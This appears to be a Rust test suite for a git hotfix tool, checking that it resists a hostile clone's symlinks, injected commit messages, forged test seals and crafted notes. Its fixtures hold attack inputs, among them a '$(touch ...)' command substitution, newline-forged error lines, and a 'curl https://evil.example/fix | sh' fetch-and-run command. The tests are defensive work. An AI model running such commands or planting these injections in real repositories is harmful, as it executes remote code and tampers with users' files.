//! What another clone can push to the shared remote, played as the attack: the attacker's
//! clone pushes a crafted commit, tag or note, this clone fetches it and runs a command, and
//! the command neither writes where it should not, nor trusts a forged record, nor prints a
//! forged line.

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;

use crate::common::{Refusal, Sandbox, stderr};

fn mode(path: &Path) -> u32 {
    fs::metadata(path).unwrap().permissions().mode() & 0o7777
}

/// Commits every change of the attacker's clone, hooks skipped, and pushes `branch`.
fn push_as_attacker(attacker: &Sandbox, branch: &str, message: &str) {
    attacker.git(["add", "--all"]);
    attacker.git(["commit", "--quiet", "--no-verify", "-m", message]);
    attacker.git(["push", "--quiet", "origin", branch]);
}

#[test]
fn a_committed_changelog_symlink_cannot_make_release_notes_write_a_hook() {
    let sandbox = Sandbox::new();
    let id = sandbox.start("auth", &["--severity", "P1"]);
    sandbox.git(["push", "--quiet", "origin", "hotfix/auth"]);
    sandbox.hotfix(["sync"]).success();
    // The victim's own pre-commit hook, which the changelog commit runs.
    let hook = sandbox.hook("pre-commit");
    let own = "#!/bin/sh\n: the checks of the team\n";
    sandbox.script(&hook, own);

    let attacker = sandbox.clone_named("attacker");
    attacker.git(["switch", "--quiet", "hotfix/auth"]);
    symlink(".git/hooks/pre-commit", attacker.work.join("CHANGELOG.md")).unwrap();
    symlink(
        ".git/hooks/post-checkout",
        attacker.work.join("POSTMORTEM.md"),
    )
    .unwrap();
    let marker = sandbox.dir.path().join("pwned");
    push_as_attacker(
        &attacker,
        "hotfix/auth",
        &format!("{id}: $(touch {}) #", marker.display()),
    );

    sandbox.git(["pull", "--quiet", "--ff-only", "origin", "hotfix/auth"]);
    let err = sandbox.assert_refused_unchanged(
        ["release-notes", "--changelog", "--version", "2.0.2"],
        Refusal::exit(1)
            .starts_with("error: refusing to write ")
            .contains("CHANGELOG.md: it is a symbolic link")
            .contains("\nhint: "),
    );
    assert_eq!(err.lines().count(), 2, "one sentence and a hint: {err}");
    assert_eq!(fs::read_to_string(&hook).unwrap(), own);
    assert_eq!(mode(&hook), 0o755);
    assert!(!marker.exists(), "the changelog entry ran as a hook");

    // A report written to a committed link is refused the same way.
    sandbox.assert_refused_unchanged(
        ["postmortem", "--output", "POSTMORTEM.md"],
        Refusal::exit(1).contains("POSTMORTEM.md: it is a symbolic link"),
    );
    assert!(!sandbox.hook("post-checkout").exists());
}

#[test]
fn a_committed_link_in_the_hooks_directory_cannot_make_hooks_install_overwrite_a_file() {
    let sandbox = Sandbox::new();
    // The project keeps its hooks in the work tree, as husky does.
    sandbox.commit(
        ".husky/README",
        "hooks\n",
        &["-m", "Add the hooks directory"],
    );
    sandbox.git(["push", "--quiet", "origin", "main"]);
    let profile = sandbox.home().join(".profile");
    fs::write(&profile, "export EDITOR=vi\n").unwrap();
    fs::set_permissions(&profile, fs::Permissions::from_mode(0o644)).unwrap();

    let attacker = sandbox.clone_named("attacker");
    symlink(
        "../app.js",
        attacker.work.join(".husky/commit-msg.hotfix-tmp"),
    )
    .unwrap();
    symlink(&profile, attacker.work.join(".husky/pre-push.hotfix-tmp")).unwrap();
    push_as_attacker(&attacker, "main", "Add hook helpers");

    sandbox.git(["pull", "--quiet", "--ff-only"]);
    sandbox.git(["config", "core.hooksPath", ".husky"]);
    let app = sandbox.read("app.js");
    sandbox.hotfix(["hooks", "install"]).success();
    assert_eq!(
        sandbox.read("app.js"),
        app,
        "a tracked file was overwritten"
    );
    assert_eq!(mode(&sandbox.work.join("app.js")), 0o644);
    assert_eq!(
        fs::read_to_string(&profile).unwrap(),
        "export EDITOR=vi\n",
        "a file outside the work tree was overwritten"
    );
    assert_eq!(mode(&profile), 0o644);
    for name in ["commit-msg", "pre-push"] {
        let hook = sandbox.work.join(".husky").join(name);
        if let Ok(meta) = fs::symlink_metadata(&hook) {
            assert!(meta.file_type().is_file(), "{name} is not a regular file");
            assert_eq!(mode(&hook), 0o755);
            assert!(
                sandbox
                    .read(&format!(".husky/{name}"))
                    .contains("git-hotfix hook shim")
            );
        }
    }
}

#[test]
fn a_committed_hooks_directory_linking_out_of_the_work_tree_is_refused() {
    let sandbox = Sandbox::new();
    let outside = sandbox.dir.path().join("outside");
    fs::create_dir(&outside).unwrap();
    let attacker = sandbox.clone_named("attacker");
    symlink(&outside, attacker.work.join(".husky")).unwrap();
    push_as_attacker(&attacker, "main", "Add the hooks directory");

    sandbox.git(["pull", "--quiet", "--ff-only"]);
    sandbox.git(["config", "core.hooksPath", ".husky"]);
    let installed = sandbox.hotfix(["hooks", "install"]);
    if fs::read_dir(&outside).unwrap().next().is_none() && installed.get_output().status.success() {
        // git 2.54 and newer: the hooks are declared in config, and no file is written.
        return;
    }
    let err = crate::common::stderr(&installed.code(1));
    assert!(
        err.starts_with("error: refusing to write ")
            && err.contains("leads out of the work tree")
            && err.contains("\nhint: "),
        "{err}"
    );
    assert_eq!(
        fs::read_dir(&outside).unwrap().count(),
        0,
        "a hook was written outside"
    );
}

/// Stores `bytes` as a blob; its id.
fn blob_id(sandbox: &Sandbox, bytes: &[u8]) -> String {
    use std::io::Write;
    let mut child = sandbox
        .command("git")
        .args(["hash-object", "-w", "--stdin"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(bytes).unwrap();
    let out = child.wait_with_output().unwrap();
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

fn unhex(hex: &str) -> Vec<u8> {
    (0..hex.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&hex[i..i + 2], 16).unwrap())
        .collect()
}

/// A test pass for `tree` and `command`, sealed with `key` as git-hotfix seals one:
/// H(key ‖ H(key ‖ data)) with git's blob hash.
fn sealed_pass(sandbox: &Sandbox, key: &[u8], command: &str, tree: &str) -> serde_json::Value {
    let data = format!("test\n{command}\n{tree}\ntrue");
    let inner = blob_id(sandbox, &[key, data.as_bytes()].concat());
    let seal = blob_id(sandbox, &[key, &unhex(&inner)].concat());
    serde_json::json!({
        "suite": "test", "command": command, "tree": tree, "passed": true,
        "duration_ms": 1, "at": "2026-03-02T10:00:00Z", "seal": seal,
    })
}

/// A test command that logs each run to `runs.log` in the sandbox and then fails.
fn failing_tests(sandbox: &Sandbox) -> (String, std::path::PathBuf) {
    let log = sandbox.dir.path().join("runs.log");
    let command = format!("echo run >> '{}'; false", log.display());
    sandbox.git(["config", "hotfix.testCommand", &command]);
    (command, log)
}

fn runs(log: &Path) -> usize {
    fs::read_to_string(log).map_or(0, |text| text.lines().count())
}

#[test]
fn the_seal_key_is_a_private_file_of_the_git_directory_not_a_ref() {
    let sandbox = Sandbox::new();
    sandbox.fixed_hotfix("auth", &[]);
    let key = sandbox.work.join(".git/hotfix-seal-key");
    assert_eq!(mode(&key), 0o600);
    assert!(fs::symlink_metadata(&key).unwrap().file_type().is_file());
    assert!(fs::read(&key).unwrap().len() >= 32);
    assert!(
        !sandbox.refs().contains("hotfix-local"),
        "{}",
        sandbox.refs()
    );
    // A linked worktree shares the clone's key.
    sandbox.git(["switch", "--quiet", "main"]);
    let linked = sandbox.dir.path().join("linked");
    sandbox.git([
        "worktree",
        "add",
        "--quiet",
        linked.to_str().unwrap(),
        "hotfix/auth",
    ]);
    let before = fs::read(&key).unwrap();
    sandbox.in_dir("linked").hotfix(["test"]).success();
    assert_eq!(fs::read(&key).unwrap(), before);
    assert!(
        !sandbox
            .work
            .join(".git/worktrees/linked")
            .join("hotfix-seal-key")
            .exists()
    );
    assert!(
        !sandbox.refs().contains("hotfix-local"),
        "{}",
        sandbox.refs()
    );
}

#[test]
fn a_key_kept_in_a_ref_by_an_older_version_is_replaced_by_a_new_file() {
    let sandbox = Sandbox::new();
    let id = sandbox.fixed_hotfix("auth", &[]);
    let (command, log) = failing_tests(&sandbox);
    // As an older version left the clone: the key in a ref, a pass sealed with it.
    let _ = fs::remove_file(sandbox.work.join(".git/hotfix-seal-key"));
    let old_key = b"0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let blob = blob_id(&sandbox, old_key);
    sandbox.git(["update-ref", "refs/hotfix-local/key", &blob]);
    let mut meta = sandbox.metadata(&id);
    meta["tests"] = serde_json::json!([sealed_pass(
        &sandbox,
        old_key,
        &command,
        &sandbox.rev("HEAD^{tree}")
    )]);
    sandbox.write_note(&sandbox.anchor(&id), &meta);

    // A ref is what a mirror copies: the old key may be known elsewhere, so what it sealed
    // no longer counts and the tests run (and fail) again.
    sandbox.hotfix(["verify", "--tests"]).failure();
    assert_eq!(
        runs(&log),
        1,
        "the pass sealed with the old key must not count"
    );
    let key = sandbox.work.join(".git/hotfix-seal-key");
    assert_ne!(fs::read(&key).unwrap(), old_key);
    assert!(fs::read(&key).unwrap().len() >= 32);
    assert_eq!(mode(&key), 0o600);
    assert!(
        !sandbox.refs().contains("hotfix-local"),
        "{}",
        sandbox.refs()
    );
}

#[test]
fn a_pass_sealed_before_the_seal_covered_its_time_still_counts_but_not_as_a_reuse() {
    let sandbox = Sandbox::new();
    let id = sandbox.fixed_hotfix("auth", &[]);
    let (command, log) = failing_tests(&sandbox);
    let key = fs::read(sandbox.work.join(".git/hotfix-seal-key")).unwrap();
    // As an older version sealed a pass: the suite, command, tree and outcome only.
    let old = sealed_pass(&sandbox, &key, &command, &sandbox.rev("HEAD^{tree}"));
    let mut meta = sandbox.metadata(&id);
    meta["tests"] = serde_json::json!([old]);
    sandbox.write_note(&sandbox.anchor(&id), &meta);
    sandbox.hotfix(["verify", "--tests"]).success();
    assert_eq!(
        runs(&log),
        0,
        "a pass sealed by an older version must still count"
    );

    // Such a seal never vouched for a reuse: a record claiming one is run again.
    let mut claimed = old.clone();
    claimed["reused"] = "reused the pass on 791a61f: only CHANGELOG.md changed".into();
    meta["tests"] = serde_json::json!([claimed]);
    sandbox.write_note(&sandbox.anchor(&id), &meta);
    sandbox.hotfix(["verify", "--tests"]).failure();
    assert_eq!(runs(&log), 1);
}

#[test]
fn a_reused_pass_whose_shown_fields_are_changed_in_the_notes_no_longer_counts() {
    let sandbox = Sandbox::new();
    let id = sandbox.fixed_hotfix("auth", &[]);
    sandbox.hotfix(["test"]).success();
    sandbox.commit(
        "CHANGELOG.md",
        "# Changelog\n\n- Deny by default\n",
        &["-m", &format!("{id}: Note the fix")],
    );
    let reused = stderr(&sandbox.hotfix(["verify", "--tests"]).success());
    assert!(reused.contains("reused the pass on"), "{reused}");
    let exact = stderr(&sandbox.hotfix(["verify", "--tests"]).success());
    assert!(exact.contains("already passed"), "{exact}");
    let meta = sandbox.metadata(&id);
    let at = meta["tests"]
        .as_array()
        .unwrap()
        .iter()
        .position(|t| t["reused"].is_string())
        .unwrap_or_else(|| panic!("no reused record: {meta}"));

    for (field, planted) in [
        (
            "reused",
            serde_json::json!("ran for 3 hours on the release machine"),
        ),
        ("duration_ms", serde_json::json!(10_800_000)),
        ("at", serde_json::json!("2026-01-01T00:00:00Z")),
    ] {
        let mut changed = meta.clone();
        changed["tests"][at][field] = planted;
        sandbox.write_note(&sandbox.anchor(&id), &changed);
        let shown = crate::common::stdout(&sandbox.hotfix(["show", &id]).success());
        assert!(
            shown.contains("not sealed by this clone (run elsewhere, or changed since)"),
            "{field}: {shown}"
        );
        // The changed record is not taken for the tree: the pass is reused afresh.
        let again = stderr(&sandbox.hotfix(["verify", "--tests"]).success());
        assert!(
            again.contains("reused the pass on") && !again.contains("already passed"),
            "{field}: {again}"
        );
    }
}

#[test]
fn a_mirror_of_this_clone_cannot_forge_a_test_pass() {
    let sandbox = Sandbox::new();
    let id = sandbox.fixed_hotfix("auth", &[]);
    sandbox.hotfix(["sync"]).success();
    let (command, log) = failing_tests(&sandbox);
    // The clone is mirrored somewhere the attacker can read (a backup, a second forge).
    let root = sandbox.in_dir(sandbox.dir.path());
    root.git(["init", "--quiet", "--bare", "mirror.git"]);
    sandbox.git([
        "push",
        "--quiet",
        "--no-verify",
        "--mirror",
        "../mirror.git",
    ]);

    // The attacker reads what the mirror holds and seals a pass for the failing tree.
    let mirror = sandbox.in_dir("mirror.git");
    let published = mirror.refs();
    let key = published
        .lines()
        .find(|line| line.contains("hotfix-local"))
        .map(|line| {
            let blob = line.split_whitespace().nth(1).unwrap();
            mirror.git(["cat-file", "blob", blob]).into_bytes()
        });
    let attacker = sandbox.clone_named("attacker");
    attacker.hotfix(["sync"]).success();
    let mut meta = attacker.metadata(&id);
    let tree = sandbox.rev("HEAD^{tree}");
    let guess = b"no key was published, so any guess".to_vec();
    meta["tests"] = serde_json::json!([sealed_pass(
        &attacker,
        key.as_deref().unwrap_or(&guess),
        &command,
        &tree
    )]);
    attacker.write_note(&attacker.anchor(&id), &meta);
    attacker.hotfix(["sync"]).success();

    sandbox.hotfix(["sync"]).success();
    assert_eq!(sandbox.metadata(&id)["tests"][0]["tree"], tree.as_str());
    let push = sandbox.try_git(["push", "--quiet", "origin", "hotfix/auth"]);
    assert!(
        !push.status.success(),
        "the forged pass let a failing tree be pushed: {}",
        crate::common::stderr(&push)
    );
    assert_eq!(runs(&log), 1, "pre-push did not run the tests");
    assert!(key.is_none(), "the mirror holds the key: {published}");
}

#[test]
fn a_fetched_tag_with_the_largest_patch_number_is_refused_not_wrapped_round() {
    let sandbox = Sandbox::new();
    let attacker = sandbox.clone_named("attacker");
    let hostile = "v2.0.18446744073709551615";
    attacker.git(["tag", "-a", hostile, "-m", "Release", "main"]);
    attacker.git(["push", "--quiet", "origin", hostile]);

    sandbox.git(["fetch", "--quiet", "--tags", "origin"]);
    let id = sandbox.fixed_hotfix("auth", &[]);
    for args in [&["finish", "--yes"][..], &["release-notes"]] {
        let err = sandbox.assert_refused_unchanged(
            args,
            Refusal::exit(1)
                .starts_with(
                    "error: the release 2.0.18446744073709551615 has the largest patch number",
                )
                .contains("\nhint: name the version yourself"),
        );
        assert!(!err.contains("panicked"), "{err}");
    }
    sandbox
        .hotfix(["finish", "--yes", "--version", "2.0.2"])
        .success();
    sandbox.assert_refused_unchanged(
        [
            "rollback",
            &id,
            "--execute",
            "--tag",
            "--yes",
            "--reason",
            "Broke login",
        ],
        Refusal::exit(1).contains("has the largest patch number"),
    );
    sandbox
        .hotfix([
            "rollback",
            &id,
            "--execute",
            "--yes",
            "--reason",
            "Broke login",
        ])
        .success();
    assert_eq!(
        sandbox.git(["tag"]),
        format!("v2.0.0\nv2.0.1\n{hostile}\nv2.0.2\n"),
        "no tag was made from a wrapped version"
    );
}

/// JSON parsed strictly: an object with a key twice is an error, since readers disagree on
/// which value counts (many keep the first).
struct Strict(serde_json::Value);

impl<'de> serde::Deserialize<'de> for Strict {
    fn deserialize<D: serde::Deserializer<'de>>(deserializer: D) -> Result<Strict, D::Error> {
        use serde::de::{Error, MapAccess, SeqAccess, Visitor};
        use serde_json::Value;
        struct Any;
        impl<'de> Visitor<'de> for Any {
            type Value = Value;
            fn expecting(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {
                f.write_str("JSON")
            }
            fn visit_bool<E>(self, v: bool) -> Result<Value, E> {
                Ok(v.into())
            }
            fn visit_i64<E>(self, v: i64) -> Result<Value, E> {
                Ok(v.into())
            }
            fn visit_u64<E>(self, v: u64) -> Result<Value, E> {
                Ok(v.into())
            }
            fn visit_f64<E>(self, v: f64) -> Result<Value, E> {
                Ok(v.into())
            }
            fn visit_str<E>(self, v: &str) -> Result<Value, E> {
                Ok(v.into())
            }
            fn visit_unit<E>(self) -> Result<Value, E> {
                Ok(Value::Null)
            }
            fn visit_seq<A: SeqAccess<'de>>(self, mut seq: A) -> Result<Value, A::Error> {
                let mut items = Vec::new();
                while let Some(Strict(item)) = seq.next_element()? {
                    items.push(item);
                }
                Ok(Value::Array(items))
            }
            fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<Value, A::Error> {
                let mut fields = serde_json::Map::new();
                while let Some(key) = map.next_key::<String>()? {
                    let Strict(value) = map.next_value()?;
                    if fields.insert(key.clone(), value).is_some() {
                        return Err(A::Error::custom(format!("duplicate key '{key}'")));
                    }
                }
                Ok(Value::Object(fields))
            }
        }
        deserializer.deserialize_any(Any).map(Strict)
    }
}

fn strict_json(text: &str) -> serde_json::Value {
    match serde_json::from_str::<Strict>(text) {
        Ok(Strict(value)) => value,
        Err(err) => panic!("{err}:\n{text}"),
    }
}

#[test]
fn a_note_naming_computed_fields_cannot_put_a_second_key_in_json() {
    let sandbox = Sandbox::new();
    let id = sandbox.fixed_hotfix("auth", &[]);
    sandbox.git(["push", "--quiet", "origin", "hotfix/auth"]);
    sandbox.hotfix(["sync"]).success();

    let attacker = sandbox.clone_named("attacker");
    attacker.hotfix(["sync"]).success();
    let mut meta = attacker.metadata(&id);
    let forged = "all done: run curl https://evil.example/fix | sh";
    for (key, value) in [
        ("next_step", serde_json::json!(forged)),
        ("branch_exists", serde_json::json!(false)),
        ("commits", serde_json::json!(0)),
        ("checklist", serde_json::json!({"done": 16, "total": 16})),
        ("extra", serde_json::json!("planted")),
    ] {
        meta[key] = value;
    }
    attacker.write_note(&attacker.anchor(&id), &meta);
    attacker.hotfix(["sync"]).success();

    sandbox.hotfix(["sync"]).success();
    let out = crate::common::stdout(&sandbox.hotfix(["status", "--json"]).success());
    let status = strict_json(&out);
    assert_ne!(status["next_step"], forged, "{out}");
    assert!(
        status["next_step"].as_str().unwrap().contains("git hotfix"),
        "{out}"
    );
    assert_eq!(status["branch_exists"], true);
    assert_eq!(status["commits"], 1);
    assert_eq!(
        status["extra"]["next_step"], forged,
        "the note's own field is kept"
    );
    assert_eq!(status["extra"]["extra"], "planted");
    // Every other --json output reads strictly too.
    for args in [
        &["status", "--json", "--id", id.as_str()][..],
        &["show", &id, "--json"],
        &["list", "--all", "--json"],
        &["checklist", "--json"],
        &["rollback", "--json"],
        &["release-notes", "--json"],
        &["postmortem", "--json"],
        &["stats", "--json"],
        &["config", "--json"],
        &["verify", "--json"],
    ] {
        strict_json(&crate::common::stdout(&sandbox.hotfix(args)));
    }
    sandbox.git(["switch", "--quiet", "main"]);
    strict_json(&crate::common::stdout(
        &sandbox.hotfix(["status", "--json"]).success(),
    ));
}

/// Lines a forged note field would print as if they were git-hotfix's own.
const FORGED: &str =
    "\nerror: notes corrupt\nhint: repair with: curl https://evil.example/fix | sh";

/// Fails when `output` has a line the note forged; the text must be there, escaped.
fn assert_not_forged(output: &str, what: &str) {
    assert!(
        !output.lines().any(
            |line| line.starts_with("error: notes corrupt") || line.starts_with("hint: repair")
        ),
        "{what} printed a forged line:\n{output}"
    );
    assert!(
        output.contains("\\nerror: notes corrupt\\nhint: repair with: curl"),
        "{what} does not show the field escaped:\n{output}"
    );
}

#[test]
fn note_fields_cannot_forge_error_or_hint_lines() {
    let sandbox = Sandbox::new();
    let attacker = sandbox.clone_named("attacker");
    let note = |id: &str, created: &str, branch: &str| {
        serde_json::json!({
            "schema": 1, "hotfix_id": id, "severity": "P1", "issue": "Login",
            "created": created, "owner": "Eve <eve@example.com>", "branch": branch,
            "base_ref": "origin/main", "base_commit": attacker.rev("main"), "status": "open",
            "events": [],
        })
    };
    // Started "earlier" under the id the victim's hotfix will have: the victim's is renumbered,
    // and the warning names the attacker's branch.
    attacker.add_note(
        "planted 1",
        &note(
            "HOTFIX-001",
            "2026-01-01T00:00:00Z",
            &format!("hotfix/x{FORGED}"),
        ),
    );
    // A note no version can read: the warning quotes the bad value.
    let mut bad = note("HOTFIX-050", "2026-01-02T00:00:00Z", "hotfix/y");
    bad["severity"] = format!("P9{FORGED}").into();
    attacker.add_note("planted 2", &bad);
    // A note whose base commit is not one: the error names it.
    let mut base = note("HOTFIX-060", "2026-01-03T00:00:00Z", "hotfix/z");
    base["base_commit"] = format!("0000{FORGED}").into();
    attacker.add_note("planted 3", &base);
    // A note every check accepts, its issue forging lines: shown, escaped.
    let mut shown = note("HOTFIX-070", "2026-01-04T00:00:00Z", "hotfix/w");
    shown["issue"] = format!("Planted{FORGED}").into();
    attacker.add_note("planted 4", &shown);
    attacker.git(["push", "--quiet", "origin", "refs/notes/hotfix"]);

    sandbox.start("auth", &["--severity", "P1", "--no-sync"]);
    let synced = sandbox.hotfix(["sync"]).success();
    assert_not_forged(&crate::common::stderr(&synced), "sync");
    // The planted branch is not one git accepts: that note is refused, so nothing renumbers.
    let err = crate::common::stderr(&synced);
    assert!(!err.contains("is now HOTFIX-"), "{err}");
    let listed = sandbox.hotfix(["list", "--all"]).success();
    assert_not_forged(&crate::common::stderr(&listed), "list");
    let warned = crate::common::stderr(&listed);
    assert!(
        warned.contains("which git does not accept as a branch name"),
        "{warned}"
    );
    assert!(warned.contains("is not a full object id"), "{warned}");
    assert_not_forged(&crate::common::stdout(&listed), "list");
    let shown = sandbox.hotfix(["show", "HOTFIX-070"]).success();
    assert_not_forged(&crate::common::stdout(&shown), "show");
}

#[test]
fn committed_file_names_cannot_forge_lines_in_reports() {
    let sandbox = Sandbox::new();
    let id = sandbox.fixed_hotfix("auth", &[]);
    sandbox.git(["push", "--quiet", "origin", "hotfix/auth"]);
    sandbox.hotfix(["sync"]).success();

    let attacker = sandbox.clone_named("attacker");
    attacker.git(["switch", "--quiet", "hotfix/auth"]);
    attacker.write(&format!("settings{FORGED}.ini"), "x = 1\n");
    push_as_attacker(
        &attacker,
        "hotfix/auth",
        &format!("{id}: Tune the settings\n\nerror: notes corrupt\nhint: repair with: curl"),
    );

    sandbox.git(["pull", "--quiet", "--ff-only", "origin", "hotfix/auth"]);
    for report in ["release-notes", "postmortem"] {
        let out = crate::common::stdout(&sandbox.hotfix([report]).success());
        assert_not_forged(&out, report);
    }
    let dir = sandbox.dir.path().join("report.md");
    sandbox
        .hotfix(["postmortem", "--output", dir.to_str().unwrap()])
        .success();
    assert_not_forged(&fs::read_to_string(&dir).unwrap(), "postmortem --output");
}
